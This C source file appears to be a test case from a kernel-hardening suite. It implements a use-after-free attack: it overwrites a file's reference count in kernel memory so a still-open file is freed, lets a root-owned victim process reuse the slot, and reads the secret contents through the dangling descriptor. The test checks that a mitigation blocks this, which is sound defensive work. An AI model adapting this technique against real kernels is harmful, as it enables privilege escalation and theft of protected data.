// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("cred_integrity", "file_freed_in_use",
       "cred_integrity: an open file freed while it is in use",
       "The program has a file under two descriptors, writes down its count of "
       "references, and closes one: the file is freed. Then it waits for root's program to "
       "open another in that place.",
       "A file counts in sealed memory the descriptors that name it; with one left it is not "
       "freed.",
       "The second descriptor is root's file, and the program reads it.");

#define COPIES 40

static long copies[COPIES];
static uint64_t references[COPIES];

static bool control(void)
{
	return is_ordinary();
}

static void make_dangling(unsigned int index)
{
	const long file = call3(__NR_open, (long)PUBLIC, O_RDONLY, 0);
	const long copy = call1(__NR_dup, file);

	copies[index] = file;
	references[index] = file_state(own_task(), (int)file) + member("file_state.references");
	poke_references(references[index], 1);
	call1(__NR_close, copy);
}

/* Once somebody uses the place again. */
static bool reads_secret(unsigned int index)
{
	char bytes[sizeof(SECRET) - 1] = { 0 };

	if (!file_state(own_task(), (int)copies[index]))
		return false;
	call4(__NR_pread64, copies[index], (long)bytes, sizeof(bytes), 0);
	return bytes_equal(bytes, SECRET, sizeof(bytes));
}

/* On the victim's processor: what is freed here is used again there. */
static bool fire(void)
{
	(void)own_cpu(0);
	meet_victim();
	for (unsigned int i = 0; i < COPIES; i++)
		make_dangling(i);
	victim_go();
	await(progress[VICTIM_ROUNDS] != 1);
	for (unsigned int i = 0; i < COPIES; i++) {
		if (reads_secret(i))
			return true;
	}
	return false;
}

static void victim(void)
{
	unsigned long mask = 1;

	call3(__NR_sched_setaffinity, 0, sizeof(mask), (long)&mask);
	victim_awaits_attacker();
	for (unsigned int i = 0; i < COPIES; i++)
		copies[i] = call3(__NR_open, (long)PRIZE, O_RDONLY, 0);
	victim_waits();
}
